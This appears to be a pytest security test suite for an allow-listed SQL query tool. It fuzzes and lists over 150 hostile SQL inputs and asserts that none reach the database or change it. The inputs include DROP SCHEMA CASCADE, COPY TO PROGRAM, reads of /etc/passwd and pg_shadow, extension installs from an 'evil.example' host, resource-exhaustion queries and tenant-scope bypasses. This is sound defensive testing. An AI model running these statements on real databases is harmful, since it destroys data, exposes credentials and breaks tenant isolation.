"""What must never run, on every engine: nothing that is not allow-listed reaches the source, and nothing is changed."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import psycopg
import pytest
import sqlglot
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlglot import exp
from sqlglot.tokenizer_core import TokenType

from conftest import ENGINES, SALES
from each_case import each
from veracity.contracts import QueryValidationError, TableData
from veracity.query.sqlcheck import SqlReading, check_sql
from veracity.sources.open import open_source
from veracity.sources.source import Running, Scope, Source, Statement
from veracity.tools.sql import SqlTools
from veracity.tools.tables import TableTools

ATTACKS: dict[str, list[str]] = {
    "writes": [
        "INSERT INTO Sale VALUES (7)",
        "INSERT INTO Sale SELECT * FROM Sale",
        "UPDATE Sale SET amount = 0",
        "DELETE FROM Sale",
        "DELETE FROM Sale RETURNING *",
        "TRUNCATE Sale",
        "MERGE INTO Sale USING Sale AS s ON Sale.id = s.id WHEN MATCHED THEN DELETE",
        "REPLACE INTO Sale VALUES (1)",
        "DROP TABLE Sale",
        "DROP SCHEMA public CASCADE",
        "CREATE TABLE t AS SELECT * FROM Sale",
        "CREATE TEMP TABLE t (a INTEGER)",
        "CREATE VIEW v AS SELECT * FROM Sale",
        "CREATE INDEX i ON Sale (id)",
        "CREATE MACRO m(a) AS a + 1",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE TRIGGER t AFTER INSERT ON Sale BEGIN SELECT 1; END",
        "ALTER TABLE Sale ADD COLUMN x INTEGER",
        "SELECT * INTO copied FROM Sale",
        "WITH gone AS (DELETE FROM Sale RETURNING *) SELECT * FROM gone",
        "WITH new AS (INSERT INTO Sale VALUES (9) RETURNING id) SELECT * FROM new",
        "SELECT * FROM (UPDATE Sale SET amount = 1 RETURNING *) AS t",
    ],
    "several statements": [
        "SELECT 1; DROP TABLE Sale",
        "SELECT * FROM Sale; SELECT * FROM Sale",
        "SELECT * FROM Sale;DELETE FROM Sale;--",
        "; SELECT * FROM Sale; COMMIT",
        "BEGIN; DELETE FROM Sale; COMMIT",
        "SELECT * FROM Sale WHERE region = 'a'; UPDATE Sale SET paid = false --'",
        "SELECT * FROM Sale /* ; */; DROP TABLE Sale /* */",
        "SELECT $$;$$ FROM Sale; DROP TABLE Sale",
    ],
    "other commands": [
        "EXPLAIN SELECT * FROM Sale",
        "EXPLAIN ANALYZE DELETE FROM Sale",
        "DESCRIBE Sale",
        "SHOW TABLES",
        "SHOW ALL",
        "SUMMARIZE Sale",
        "CALL pragma_version()",
        "EXECUTE stmt",
        "PREPARE p AS SELECT * FROM Sale",
        "DO $$ BEGIN PERFORM 1; END $$",
        "VACUUM",
        "ANALYZE",
        "CHECKPOINT",
        "ATTACH 'other.db' AS other",
        "ATTACH DATABASE '/etc/passwd' AS x",
        "DETACH main",
        "USE other",
        "BEGIN",
        "ROLLBACK",
        "LOCK TABLE Sale",
        "GRANT ALL ON Sale TO public",
        "REVOKE ALL ON Sale FROM public",
        "LISTEN x",
        "NOTIFY x, 'y'",
        "LOAD httpfs",
        "INSTALL httpfs",
        "FORCE INSTALL httpfs FROM 'http://evil.example'",
        "IMPORT DATABASE 'x'",
        "EXPORT DATABASE 'x'",
        "PIVOT Sale ON region USING SUM(amount)",
        "TABLE Sale",
        "VALUES (1, 2)",
        "REFRESH MATERIALIZED VIEW x",
        "COMMENT ON TABLE Sale IS 'x'",
        "CLUSTER Sale",
        "REINDEX Sale",
        "DISCARD ALL",
    ],
    "settings": [
        "SET memory_limit = '100GB'",
        "SET enable_external_access = true",
        "RESET ALL",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "PRAGMA table_info('Sale')",
        "PRAGMA query_only = OFF",
        "PRAGMA writable_schema = 1",
        "PRAGMA database_list",
        "SELECT current_setting('data_directory') FROM Sale",
        "SELECT set_config('statement_timeout', '0', false) FROM Sale",
        "SELECT * FROM duckdb_settings()",
        "SELECT getvariable('x') FROM Sale",
        "SELECT @@version FROM Sale",
        "SELECT current_user FROM Sale",
        "SELECT session_user FROM Sale",
        "SELECT current_database() FROM Sale",
        "SELECT current_schema FROM Sale",
        "SELECT version() FROM Sale",
        "SELECT sqlite_version() FROM Sale",
    ],
    "files and network": [
        "COPY Sale TO 'out.csv'",
        "COPY (SELECT * FROM Sale) TO '/tmp/veracity-attack.csv'",
        "COPY Sale FROM 'in.csv'",
        "COPY Sale FROM PROGRAM 'id'",
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/veracity-attack'",
        "SELECT * FROM 'secret.csv'",
        "SELECT * FROM '/etc/passwd'",
        'SELECT * FROM "/etc/passwd"',
        "SELECT * FROM 'https://evil.example/x.parquet'",
        "SELECT * FROM 's3://bucket/x.parquet'",
        "SELECT * FROM read_csv('secret.csv')",
        "SELECT * FROM read_csv_auto('secret.csv')",
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('/etc/passwd')",
        "SELECT * FROM read_json_auto('x.json')",
        "SELECT * FROM parquet_scan('x.parquet')",
        "SELECT * FROM glob('*')",
        "SELECT * FROM sniff_csv('secret.csv')",
        "SELECT * FROM sqlite_scan('x.db', 't')",
        "SELECT * FROM postgres_scan('host=evil', 'public', 't')",
        "SELECT pg_read_file('/etc/passwd') FROM Sale",
        "SELECT pg_ls_dir('/') FROM Sale",
        "SELECT lo_import('/etc/passwd') FROM Sale",
        "SELECT lo_export(1, '/tmp/veracity-attack') FROM Sale",
        "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
        "SELECT dblink_exec('host=evil', 'DROP TABLE x') FROM Sale",
        "SELECT readfile('/etc/passwd') FROM Sale",
        "SELECT writefile('/tmp/veracity-attack', 'x') FROM Sale",
        "SELECT load_extension('evil.so') FROM Sale",
        "SELECT edit('x') FROM Sale",
        "SELECT getenv('HOME') FROM Sale",
        "SELECT query_to_xml('SELECT * FROM pg_user', true, true, '') FROM Sale",
        "SELECT * FROM file('x')",
        "SELECT * FROM ST_Read('x.shp')",
    ],
    "system tables": [
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
        "SELECT * FROM pg_catalog.pg_user",
        "SELECT * FROM pg_shadow",
        "SELECT * FROM pg_stat_activity",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM sqlite_schema",
        "SELECT * FROM main.sqlite_master",
        "SELECT * FROM temp.sqlite_temp_master",
        "SELECT * FROM sqlite_sequence",
        "SELECT * FROM dbstat",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM duckdb_tables",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM pragma_table_info('Sale')",
        "SELECT * FROM pragma_database_list",
        "SELECT * FROM system.information_schema.tables",
        "SELECT * FROM pg_tables",
        "SELECT (SELECT sql FROM sqlite_master LIMIT 1) FROM Sale",
        "SELECT id FROM Sale UNION ALL SELECT usename FROM pg_user",
        "SELECT * FROM Sale WHERE EXISTS (SELECT 1 FROM information_schema.tables)",
        "WITH t AS (SELECT * FROM sqlite_master) SELECT * FROM t",
        "SELECT 'pg_class'::regclass FROM Sale",
        "SELECT has_table_privilege('Sale', 'select') FROM Sale",
    ],
    "SQL in texts": [
        "SELECT * FROM query('DROP TABLE Sale')",
        "SELECT * FROM query_table('Sale')",
        "SELECT query('SELECT 1') FROM Sale",
        "SELECT eval('1+1') FROM Sale",
        "SELECT json_execute_serialized_sql('x') FROM Sale",
        "SELECT * FROM json_execute_serialized_sql('x')",
        "FROM query('SELECT 1')",
        "SELECT database_to_xml(true, true, '') FROM Sale",
        "SELECT cursor_to_xml('x', 1, true, true, '') FROM Sale",
    ],
    "parameters": [
        "SELECT * FROM Sale WHERE id = ?",
        "SELECT * FROM Sale WHERE id = $1",
        "SELECT * FROM Sale WHERE id = :p1",
        "SELECT * FROM Sale WHERE id = @p1",
        "SELECT * FROM Sale WHERE region = $name",
        "SELECT * FROM Sale WHERE region = {{ x }}",
        "SELECT * FROM IDENTIFIER('Sale')",
    ],
    "without end": [
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t",
        "WITH t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t",
        "SELECT * FROM generate_series(1, 1000000000)",
        "SELECT * FROM range(1000000000)",
        "SELECT unnest(range(1000000000)) FROM Sale",
        "SELECT * FROM Sale, generate_series(1, 1000000000)",
        "SELECT * FROM Sale CROSS JOIN UNNEST([1, 2, 3])",
        "SELECT * FROM Sale AS a, Sale AS b, Sale AS c, Sale AS d",
        "SELECT * FROM Sale AS a CROSS JOIN Sale AS b",
        "SELECT COUNT(*) FROM Sale AS a JOIN Sale AS b ON 1 = 1",
        "SELECT COUNT(*) FROM Sale AS a JOIN Sale AS b ON a.id > b.id",
        "SELECT * FROM Sale, LATERAL (SELECT 1) AS t",
        "SELECT pg_sleep(100) FROM Sale",
        "SELECT sleep(100) FROM Sale",
        "SELECT repeat('x', 1000000000) FROM Sale",
        "SELECT lpad(region, 1000000000, 'x') FROM Sale",
        "SELECT lpad(region, pieces, 'x') FROM Sale",
        "SELECT zeroblob(1000000000) FROM Sale",
        "SELECT randomblob(1000000000) FROM Sale",
        "SELECT printf('%1000000000d', 1) FROM Sale",
        "SELECT format('%1000000000s', region) FROM Sale",
        "SELECT region LIKE '%a%a%a%a%a%a%a%a%a%b' FROM Sale",
        "SELECT regexp_matches(region, '(a+)+$') FROM Sale",
        "SELECT region ~ '(a+)+$' FROM Sale",
        "SELECT region SIMILAR TO '(a|a)*' FROM Sale",
        "SELECT list_transform(range(1000), x -> x) FROM Sale",
        "SELECT factorial(100000) FROM Sale",
        "SELECT array_fill(0, ARRAY[1000000000]) FROM Sale",
        "SELECT " + "(" * 500 + "1" + ")" * 500 + " FROM Sale",
        "SELECT " + "-" * 3 + " 1 FROM Sale WHERE " + "NOT " * 2000 + "paid",
        "SELECT " + "+".join(["id"] * 3000) + " FROM Sale",
        "SELECT " + " || ".join(["region"] * 1000) + " FROM Sale",
        "SELECT 1 FROM Sale WHERE id IN (" + ",".join(["1"] * 6000) + ")",
        " UNION ALL ".join(["SELECT id FROM Sale"] * 40),
        "SELECT CASE WHEN " * 400 + "1" + " END" * 400 + " FROM Sale",
        "WITH a AS (SELECT * FROM Sale), b AS (SELECT a.id FROM a JOIN a AS x ON x.id = a.id), c AS (SELECT b.id FROM b JOIN b AS x ON x.id = b.id), "
        "d AS (SELECT c.id FROM c JOIN c AS x ON x.id = c.id), e AS (SELECT d.id FROM d JOIN d AS x ON x.id = d.id) SELECT * FROM e JOIN e AS x ON x.id = e.id",
    ],
    "locks and odd clauses": [
        "SELECT * FROM Sale FOR UPDATE",
        "SELECT * FROM Sale FOR SHARE",
        "SELECT * FROM Sale TABLESAMPLE SYSTEM (10)",
        "SELECT * FROM Sale USING SAMPLE 10",
        "SELECT * FROM Sale AS OF SYSTEM TIME '2020-01-01'",
        "SELECT * FROM ONLY Sale",
        "SELECT * FROM Sale NATURAL JOIN Sale AS b",
        "SELECT * FROM Sale ASOF JOIN Sale AS b ON Sale.id >= b.id",
        "SELECT * FROM Sale POSITIONAL JOIN Sale AS b",
        "SELECT * FROM Sale SEMI JOIN Sale AS b ON b.id = Sale.id",
        "SELECT region, COUNT(*) FROM Sale GROUP BY ROLLUP (region)",
        "SELECT region, COUNT(*) FROM Sale GROUP BY CUBE (region)",
        "SELECT region, COUNT(*) FROM Sale GROUP BY GROUPING SETS ((region), ())",
        "SELECT COLUMNS('.*') FROM Sale",
        "SELECT * REPLACE (1 AS id) FROM Sale",
        "SELECT Sale FROM Sale",
        "SELECT Sale.* IS NULL FROM Sale",
        "SELECT row_to_json(Sale) FROM Sale",
        "SELECT to_json(Sale) FROM Sale",
        "SELECT * FROM Sale LIMIT (SELECT 1)",
        "SELECT * FROM Sale LIMIT ALL",
        "SELECT * FROM (SELECT * FROM Sale LIMIT (SELECT COUNT(*) FROM Sale)) AS t",
        "SELECT * FROM (SELECT * FROM Sale OFFSET (SELECT COUNT(*) FROM Sale)) AS t",
        "SELECT SUM(amount) OVER (ORDER BY id ROWS BETWEEN (SELECT COUNT(*) FROM sqlite_master) PRECEDING AND CURRENT ROW) FROM Sale",
        "SELECT id FROM Sale LIMIT 1 OFFSET id",
        "SELECT * FROM Sale LIMIT 50 PERCENT",
        "SELECT * FROM Sale PIVOT (SUM(amount) FOR region IN ('Nord'))",
        "SELECT * FROM Sale WINDOW w AS (ORDER BY id)",
        "SELECT ARRAY_AGG(id) FROM Sale",
        "SELECT {'a': id} FROM Sale",
        "SELECT [id, id] FROM Sale",
        "SELECT CAST(region AS JSON) FROM Sale",
        "SELECT random() FROM Sale",
        "SELECT nextval('s') FROM Sale",
        "SELECT last_insert_rowid() FROM Sale",
        "SELECT changes() FROM Sale",
        "SELECT txid_current() FROM Sale",
        "SELECT pg_advisory_lock(1) FROM Sale",
        "SELECT pg_terminate_backend(1) FROM Sale",
        "SELECT exact_sum(amount) FROM Sale",
        "SELECT as_date(soldOn) FROM Sale",
    ],
    "past the scope": [
        "SELECT tenant FROM Sale",
        "SELECT id FROM Sale WHERE tenant = 't-2'",
        "SELECT id FROM Sale WHERE Sale.tenant <> 't-1'",
        "SELECT id FROM Sale ORDER BY tenant",
        "SELECT COUNT(DISTINCT tenant) FROM Sale",
        "SELECT s.tenant FROM (SELECT * FROM Sale) AS s",
        "SELECT rowid FROM Sale",
        "SELECT ctid FROM Sale",
        "SELECT tableoid FROM Sale",
        "SELECT _rowid_ FROM Sale",
        'SELECT "TENANT" FROM Sale',
        "SELECT * FROM other.Sale",
        "SELECT * FROM Secret",
        "SELECT * FROM public.Secret",
        "SELECT * FROM main.Secret",
    ],
    "strange texts": [
        "",
        "   ",
        ";",
        "--",
        "/* SELECT 1 */",
        "SELECT",
        "SELECT * FROM",
        "SELECT * FROM Sale WHERE",
        "SELECT 'x FROM Sale",
        'SELECT "x FROM Sale',
        "SELECT * FROM Sale WHERE region = 'a\0b'",
        "SELECT * FROM Sale WHERE region = '\ud800'",
        "ＳＥＬＥＣＴ * FROM Sale",
        "\ufeffDROP TABLE Sale",
        "S\u200bELECT * FROM Sale",
        "x" * 20_000,
        "(" * 5000,
        "SELECT 1e999999999 FROM Sale",
        "SELECT * FROM Sale WHERE region = E'\\x27 OR 1=1'",
        "SELECT U&'\\0041' FROM Sale",
        "SELECT x'41' FROM Sale",
        "SELECT b'0101' FROM Sale",
        "SELECT * FROM Sale WHERE region = 'a\\' OR 1=1 --'; DROP TABLE Sale",
        "select\n*\nfrom\nSale\nwhere\n1=1)\n;drop table Sale",
    ],
}  # fmt: skip
EVERY = [
    pytest.param(sql, id=f"{kind} {number}") for kind, listed in ATTACKS.items() for number, sql in enumerate(listed, 1)
]


class Spy:
    """A source that tells what reaches it."""

    def __init__(self, source: Source) -> None:
        self._source = source
        self.name, self.dialect = source.name, source.dialect
        self.seen: list[Statement] = []

    @property
    def tables(self) -> Any:
        return self._source.tables

    def describe(self, _select: str) -> Any:
        raise AssertionError("raw SQL is never described by the engine")

    def begin(self, statement: Statement) -> Running:
        self.seen.append(statement)
        return self._source.begin(statement)

    def close(self) -> None:
        self._source.close()


@pytest.fixture(scope="module")
def spies(shop_specs: Callable[[str], str]) -> Iterator[dict[str, SqlTools]]:
    made = {
        engine: SqlTools(
            TableTools(Spy(open_source(shop_specs(engine))), scope=Scope({"tenant": "t-1"}), tables=["Sale"])
        )
        for engine in ENGINES
    }
    yield made
    for tools in made.values():
        tools.close()


def state(engine: str, spec: str) -> Any:
    """Everything an attack could have changed."""
    if engine == "postgres":
        with psycopg.connect(spec) as connection:
            tables = connection.execute(
                "SELECT relname FROM pg_class WHERE relkind IN ('r', 'v') AND relname !~ '^pg_' ORDER BY 1"
            )
            return tables.fetchall(), connection.execute('SELECT * FROM "Sale" ORDER BY id').fetchall()
    folder = Path(spec).parent
    return sorted((path.name, hashlib.sha256(path.read_bytes()).hexdigest()) for path in folder.iterdir())


def test_there_are_enough_attacks_of_every_kind() -> None:
    assert sum(map(len, ATTACKS.values())) >= 150
    assert all(len(listed) >= 7 for listed in ATTACKS.values())


@pytest.mark.parametrize("engine", ENGINES)
def test_no_attack_runs_and_nothing_is_changed(
    engine: str, spies: dict[str, SqlTools], shop_specs: Callable[[str], str], tmp_path: Path
) -> None:
    tools, before = spies[engine], state(engine, shop_specs(engine))
    source = tools.source
    assert isinstance(source, Spy)
    ran = []
    for listed in ATTACKS.values():
        for sql in listed:
            source.seen.clear()
            result = tools.call_sync("execute_sql_safe", {"sql": sql})
            # Stored values may be looked up before a literal is refused.
            if result.error_details is None or not all(is_allowed(statement, engine) for statement in source.seen):
                ran.append((sql[:80], result))
    assert ran == []
    assert state(engine, shop_specs(engine)) == before
    assert not list(Path("/tmp").glob("veracity-attack*"))


def test_an_attack_in_a_name_or_a_text_stays_a_text(spies: dict[str, SqlTools]) -> None:
    for tools in spies.values():
        for text in ('\'; DROP TABLE "Sale"; --', "\\", "\\'", "$1", "%s", "{}", "/* x", "-- x", "a''b", "\n"):
            quoted = text.replace("'", "''")
            found = tools.call_sync("query", {"sql": f"SELECT note FROM Sale WHERE note LIKE '{quoted}~' OR id = 1"})
            assert found.error_details is not None, (text, found)
            assert found.error_details.code == "VALUE_NOT_FOUND", (text, found)
            alias = text.replace('"', '""')
            named = tools.call_sync("query", {"sql": f'SELECT id AS "{alias}" FROM Sale ORDER BY 1 LIMIT 1'})
            assert isinstance(named.data, TableData), (text, named)
            assert named.data.rows == ({text: 1},)


IN_SCOPE = [
    "SELECT * FROM Sale",
    "SELECT * FROM Sale WHERE 1 = 1 OR id = 6",
    "SELECT id FROM Sale UNION ALL SELECT id FROM Sale",
    "SELECT id FROM Sale WHERE id IN (SELECT id FROM Sale WHERE id > 3) OR TRUE",
    "WITH Sale AS (SELECT * FROM Sale) SELECT id FROM Sale",
    "WITH t AS (SELECT id FROM Sale), u AS (SELECT id FROM t) SELECT * FROM u",
    "SELECT MAX(id) AS id FROM Sale",
    "SELECT (SELECT MAX(b.id) FROM Sale AS b) AS id, region FROM Sale",
    "SELECT a.id FROM Sale AS a JOIN Sale AS b ON b.id = a.id",
    "SELECT a.id FROM Sale AS a LEFT JOIN Sale AS b ON b.id = a.id AND b.id = 6",
    "SELECT id FROM Sale AS a WHERE EXISTS (SELECT 1 FROM Sale AS b WHERE b.id >= a.id)",
    "SELECT id FROM (SELECT id FROM Sale EXCEPT SELECT id FROM Sale WHERE id = 1) AS t",
    "SELECT id, ROW_NUMBER() OVER (ORDER BY id) FROM Sale",
    'SELECT id FROM "main"."Sale" LIMIT 0',
]


@each("engine", ENGINES)
@each("sql", IN_SCOPE)
def test_whatever_is_accepted_sees_rows_in_scope_only(engine: str, sql: str, spies: dict[str, SqlTools]) -> None:
    own = {row[0] for row in SALES if row[1] == "t-1"}
    result = spies[engine].call_sync("query", {"sql": sql})
    if isinstance(result.data, TableData):
        assert {row["id"] for row in result.data.rows} <= own
        assert not any(column.name == "tenant" for column in result.data.columns)
    else:
        assert result.error_details is not None or "main" in sql


# --- whatever the text: only allow-listed statements reach an engine

FUNCTIONS = frozenset(
    [
        "ABS",
        "ANY_VALUE",
        "ARG_MAX",
        "ARG_MIN",
        "AVG",
        "BOOL_AND",
        "BOOL_OR",
        "CAST",
        "CEIL",
        "COALESCE",
        "CONCAT",
        "CONCAT_WS",
        "CONTAINS",
        "COUNT",
        "COUNT_IF",
        "CUME_DIST",
        "CURRENT_DATE",
        "CURRENT_TIMESTAMP",
        "DATE",
        "DATETIME",
        "DATE_DIFF",
        "DATE_PART",
        "DATE_TRUNC",
        "DAY",
        "DAYNAME",
        "DAYOFWEEK",
        "DAYOFYEAR",
        "DENSE_RANK",
        "ENDS_WITH",
        "EXACT_SUM",
        "EXP",
        "EXTRACT",
        "FIRST_VALUE",
        "FLOOR",
        "GREATEST",
        "GROUP_CONCAT",
        "HOUR",
        "IIF",
        "INITCAP",
        "INSTR",
        "JULIANDAY",
        "LAG",
        "LAST_DAY",
        "LAST_VALUE",
        "LEAD",
        "LEAST",
        "LEFT",
        "LENGTH",
        "LISTAGG",
        "LN",
        "LOG",
        "LOWER",
        "LPAD",
        "LTRIM",
        "MAKE_DATE",
        "MAX",
        "MEDIAN",
        "MIN",
        "MINUTE",
        "MONTH",
        "MONTHNAME",
        "NOW",
        "NTH_VALUE",
        "NTILE",
        "NULLIF",
        "PERCENTILE_CONT",
        "PERCENT_RANK",
        "POSITION",
        "POWER",
        "QUARTER",
        "RANK",
        "REPLACE",
        "RIGHT",
        "ROUND",
        "ROW_NUMBER",
        "RPAD",
        "RTRIM",
        "SECOND",
        "SIGN",
        "SPLIT_PART",
        "SQRT",
        "STARTS_WITH",
        "STDDEV",
        "STDDEV_POP",
        "STDDEV_SAMP",
        "STRFTIME",
        "STRING_AGG",
        "STRPOS",
        "SUBSTRING",
        "SUM",
        "TO_CHAR",
        "TO_TIMESTAMP",
        "TRIM",
        "TRUNC",
        "TRY_CAST",
        "TYPEOF",
        "UNIXEPOCH",
        "UNIX_TO_TIME",
        "UPPER",
        "VARIANCE",
        "VAR_POP",
        "VAR_SAMP",
        "WEEK",
        "YEAR",
        "EPOCH",
        "AGE",
        "AS_DATE",
        "AS_TIME",
        "AS_TRUTH",
        "DECIMAL",
        "VARCHAR",
        "NUMERIC",
        "CHAR",
        "TEXT",
        "REAL",
        "TIMESTAMP",
        "EXISTS",
        "IN",
        "AND",
        "OR",
        "NOT",
        "OVER",
        "VALUES",
        "AS",
        "FILTER",
        "ON",
        "BY",
        "FROM",
        "WHERE",
        "SELECT",
        "UNION",
        "ALL",
        "THEN",
        "WHEN",
        "ELSE",
        "CASE",
        "BETWEEN",
        "LIKE",
        "DISTINCT",
        "EXCEPT",
        "INTERSECT",
        "HAVING",
        "JOIN",
        "USING",
        "QUALIFY",
        "ILIKE",
        "IS",
    ]
)


def is_allowed(statement: Statement, dialect: str) -> bool:
    """One SELECT over the one table, always in scope; every name before a bracket is on a list written for this test alone."""
    parsed = sqlglot.parse(statement.sql, read=dialect)
    if len(parsed) != 1 or not isinstance(parsed[0], exp.Select | exp.SetOperation):
        return False
    query = parsed[0]
    ctes = {cte.alias.casefold() for cte in query.find_all(exp.CTE)}
    real = [table for table in query.find_all(exp.Table) if table.db]
    named = [table for table in query.find_all(exp.Table) if not table.db]
    scoped = [_is_scoped(table) for table in real]
    tokens = sqlglot.tokenize(statement.sql, read=dialect)
    called = {
        token.text.upper()
        for token, following in pairwise(tokens)
        if following.token_type is TokenType.L_PAREN
        and token.text.replace("_", "").isalpha()
        and token.token_type is not TokenType.IDENTIFIER
    }
    return (
        all(scoped)
        and {table.name for table in real} <= {"Sale"}
        and {table.name.casefold() for table in named} <= ctes
        and called <= FUNCTIONS
        and list(statement.parameters) == ["t-1"] * len(real)
    )


def _is_scoped(table: exp.Table) -> bool:
    """Whether the rows of a table are narrowed right where it is read."""
    select = table.find_ancestor(exp.Select)
    where = select.args.get("where") if select is not None else None
    condition = where.this if where is not None else None
    return (
        isinstance(condition, exp.EQ)
        and condition.this.name == "tenant"
        and isinstance(condition.expression, exp.Placeholder | exp.Parameter)
    )


PIECES = [
    "SELECT", "*", "FROM", "Sale", "WHERE", "id", "amount", "region", "=", "1", "'Nord'", "(", ")", ",", "SUM(", "COUNT(*)", "GROUP BY", "ORDER BY", "UNION ALL",
    "JOIN Sale AS b ON b.id = Sale.id", "WITH t AS (", "AS", "t", ";", "--", "/*", "*/", "DROP TABLE Sale", "read_csv('x')", "pg_sleep(1)", "sqlite_master", "$1", "?",
    "OVER (", "PARTITION BY region", "CASE WHEN", "THEN", "END", "LIMIT 1", "DISTINCT", "EXISTS (", "NOT", "NULL", "||", "::", "INTERVAL", "'x'", '"', "'", "\\", "\x00",
    "lower(", "query('x')", "LATERAL", "RECURSIVE", "INTO x", "FOR UPDATE", "SET", "PRAGMA", "ATTACH", "information_schema.tables", "generate_series(1, 9)",
]  # fmt: skip
HOLES = [
    "{}",
    "SELECT * FROM ({}) AS t",
    "WITH t AS ({}) SELECT * FROM t",
    "SELECT id FROM Sale WHERE id IN ({})",
    "SELECT id FROM Sale WHERE EXISTS ({})",
    "SELECT ({}) FROM Sale",
    "SELECT id FROM Sale UNION ALL {}",
    "{} UNION SELECT id FROM Sale",
    "SELECT id FROM Sale; {}",
    "{}; SELECT id FROM Sale",
    "SELECT id /* {} */ FROM Sale",
    "SELECT id FROM Sale -- {}",
    "SELECT id FROM Sale WHERE region = '{}'",
    'SELECT id AS "{}" FROM Sale',
    "SELECT SUM({}) FROM Sale",
    "SELECT id FROM Sale ORDER BY ({})",
    "SELECT id FROM Sale LIMIT ({})",
    "SELECT id FROM Sale JOIN ({}) AS t ON t.id = Sale.id",
]
KNOWN = [sql for listed in ATTACKS.values() for sql in listed if len(sql) < 400]


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """A known attack, or a heap of pieces, put into a hole of a harmless statement, with some letters changed."""
    text = draw(
        st.one_of(st.sampled_from(KNOWN), st.lists(st.sampled_from(PIECES), min_size=1, max_size=12).map(" ".join))
    )
    text = draw(st.sampled_from(HOLES)).format(text) if "{" not in text else text
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(0, len(text)))
        cut = draw(st.integers(0, 3))
        text = text[:at] + draw(st.sampled_from(["", " ", "/**/", "\n", *PIECES])) + text[at + cut :]
    turned = {"as it is": text, "lower": text.lower(), "upper": text.upper(), "swapped": text.swapcase()}
    return turned[draw(st.sampled_from(sorted(turned)))]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sql=mutated(), engine=st.sampled_from(ENGINES))
def test_nothing_outside_the_allow_list_ever_reaches_an_engine(
    spies: dict[str, SqlTools], sql: str, engine: str
) -> None:
    tools = spies[engine]
    assert isinstance(tools.source, Spy)
    tools.source.seen.clear()
    asyncio.run(tools.call("execute_sql_safe", {"sql": sql}))
    for statement in tools.source.seen:
        assert is_allowed(statement, engine), statement.sql


@each("count", [40, 80, 120, 150, 158, 170, 1500])
@each(
    "form",
    [
        "{} || 'x'",
        "({} + 1)",
        "NOT {}",
        "COALESCE({}, 1)",
        "CASE WHEN TRUE THEN {} END",
        "-{}",
        "{} AND TRUE",
        "(SELECT {})",
    ],
)
def test_depth_is_refused_or_run_and_never_raises(spies: dict[str, SqlTools], form: str, count: int) -> None:
    text = "id"
    for _ in range(count):
        text = form.format(text)
        if len(text) > 9_900:
            break
    for engine in ENGINES:
        tools = spies[engine]
        SqlReading(f"SELECT {text} FROM Sale", tools.catalog, tools.source).profiled_fields()
        check_sql(f"SELECT {text} FROM Sale", tools.catalog, tools.source, tools.profile, row_limit=10)
        unknown = f"SELECT totl, {text} FROM Sale"
        refused = check_sql(unknown, tools.catalog, tools.source, tools.profile, row_limit=10)
        assert isinstance(refused, QueryValidationError)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sql=st.one_of(mutated(), st.text(max_size=200)), engine=st.sampled_from(ENGINES))
def test_no_text_raises(spies: dict[str, SqlTools], sql: str, engine: str) -> None:
    tools = spies[engine]
    SqlReading(sql, tools.catalog, tools.source).profiled_fields()
    check_sql(sql, tools.catalog, tools.source, tools.profile, row_limit=10)
